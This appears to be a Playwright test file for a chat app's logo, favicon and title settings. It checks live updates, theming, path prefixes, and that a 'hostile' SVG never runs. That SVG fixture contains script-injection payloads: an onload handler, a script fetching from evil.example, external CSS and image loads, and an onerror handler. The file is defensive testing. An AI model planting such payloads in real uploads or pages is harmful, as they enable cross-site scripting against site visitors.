"""The developer's logo, icon and title: at once, reloaded, live, below a path; and harmless."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, expect

from support.browsing import Watch
from support.chatting import answer, say
from support.serving import Server, serve

PROGRAM = """
import json, os
from gptchat import app

app.set_config(json.loads(os.environ["CONFIG"]))

@app.handle_send_message
def reply(message):
    app.set_config(json.loads(message))
    return "Changed."

app.run_app(port=int(os.environ["PORT"]))
"""
ROUND = '<svg viewBox="0 0 9 9"><circle r="9" fill="currentColor"/></svg>'
RED = '<svg xmlns="http://www.w3.org/2000/svg"><path fill="red" d="M0 0h99v99z"/></svg>'
HOSTILE = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 9 9" onload="parent.ran = document.title = 'ran'">
  <script>parent.ran = document.title = "ran"; fetch("https://evil.example/script")</script>
  <style>@import url(https://evil.example/style); circle { fill: url(https://evil.example/f#x) }</style>
  <image href="https://evil.example/image.png" width="9" height="9"/>
  <use xlink:href="https://evil.example/use.svg#x"/>
  <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">
    <img src="https://evil.example/x" onerror="parent.ran = 1"/><iframe src="https://evil.example/"/>
  </body></foreignObject>
  <circle r="9"/>
</svg>
"""  # noqa: E501 – as a file would have it


@pytest.fixture
def pictures(tmp_path: Path) -> Path:
    for name, text in {"round.svg": ROUND, "red.svg": RED, "hostile.svg": HOSTILE}.items():
        (tmp_path / name).write_text(text, "utf-8")
    return tmp_path


@pytest.fixture
def server(pictures: Path) -> Iterator[Server]:
    config = '{"title": "Parrot", "logo_small": "round.svg", "favicon": "red.svg"}'
    with serve(PROGRAM, folder=pictures, env={"CONFIG": config}) as running:
        yield running


def logos(page: Page) -> Locator:
    return page.locator("[data-gc=logo]")


def icon(page: Page) -> str:
    """Where the tab's icon is now."""
    return str(page.evaluate("document.querySelector('link[rel=icon]').href"))


def is_drawn(logo: Locator) -> bool:
    return bool(logo.evaluate("async (image) => (await image.decode(), image.naturalWidth > 0)"))


def test_logo_icon_and_title_are_there_change_live_and_stay(page: Page, server: Server) -> None:
    page.goto(server.url)
    expect(page).to_have_title("Parrot")
    expect(logos(page)).to_have_count(2)
    assert all(is_drawn(logo) for logo in logos(page).all())
    header = page.locator("[data-gc=header] [data-gc=logo]")
    box, title = header.bounding_box(), page.get_by_text("Parrot", exact=True).bounding_box()
    assert box is not None
    assert title is not None
    assert (box["width"], box["height"]) == (24, 24)
    assert box["x"] + box["width"] <= title["x"]
    before = icon(page)
    assert re.fullmatch(rf"{server.url}pictures/\w+\.svg", before)
    assert page.request.get(before).text() == RED

    say(page, '{"title": "Macaw", "logo_small": "red.svg", "favicon": "round.svg"}')
    expect(answer(page)).to_contain_text("Changed.")
    expect(page.locator("[data-gc=model]")).to_have_text("Macaw")
    expect(page).to_have_title(re.compile("– Macaw$"))
    expect(header).to_have_attribute("src", before.removeprefix(server.url))
    page.wait_for_function(
        "before => document.querySelector('link[rel=icon]').href !== before", arg=before
    )
    after = icon(page)
    page.reload()
    expect(header).to_have_attribute("src", before.removeprefix(server.url))
    assert is_drawn(header)
    assert icon(page) == after

    say(page, '{"logo_small": null, "favicon": null}')
    expect(logos(page)).to_have_count(0)
    page.wait_for_function("document.querySelector('link[rel=icon]').href === 'data:,'")


def test_a_logo_in_the_colour_of_words_follows_the_theme_of_the_page(
    watch: Watch, server: Server
) -> None:
    def seen(scheme: str, theme: str) -> bytes:
        page = watch.new_context(color_scheme=scheme).new_page()
        page.goto(server.url)
        page.evaluate("theme => { document.documentElement.dataset.theme = theme }", theme)
        assert is_drawn(logos(page).last)
        return logos(page).last.screenshot()

    assert seen("light", "dark") == seen("dark", "auto") != seen("light", "auto")
    assert seen("dark", "light") == seen("light", "auto")


@pytest.mark.parametrize("option", ["logo_small", "favicon"])
def test_a_hostile_picture_is_only_a_picture(
    page: Page, watch: Watch, server: Server, option: str
) -> None:
    page.goto(server.url)
    say(page, f'{{"{option}": "hostile.svg"}}')
    expect(answer(page)).to_contain_text("Changed.")
    page.reload()
    expect(page.locator("[data-gc=logo]").first).to_be_visible()
    assert is_drawn(page.locator("[data-gc=logo]").first)
    assert page.evaluate("window.ran") is None
    assert "ran" not in page.title()
    assert page.locator("svg script, svg foreignObject").count() == 0
    assert [line for line in watch.console if "evil" in line] == []


def test_a_hostile_picture_opened_by_its_address_is_a_download(page: Page, server: Server) -> None:
    page.goto(server.url)
    say(page, '{"logo_small": "hostile.svg"}')
    expect(answer(page)).to_contain_text("Changed.")
    address = page.locator("[data-gc=header] [data-gc=logo]").get_attribute("src")
    with page.expect_download():
        page.evaluate("address => { location.href = address }", address)
    assert page.title() != "ran"


def test_below_a_path_logo_and_icon_are_found(page: Page, pictures: Path) -> None:
    config = '{"url_prefix": "/deep/chat", "logo_small": "round.svg", "favicon": "red.svg"}'
    with serve(PROGRAM, path="/deep/chat/", folder=pictures, env={"CONFIG": config}) as server:
        page.goto(server.url + "c/unknown")
        assert is_drawn(page.locator("[data-gc=header] [data-gc=logo]"))
        assert icon(page).startswith(server.url + "pictures/")
        assert page.request.get(icon(page)).text() == RED
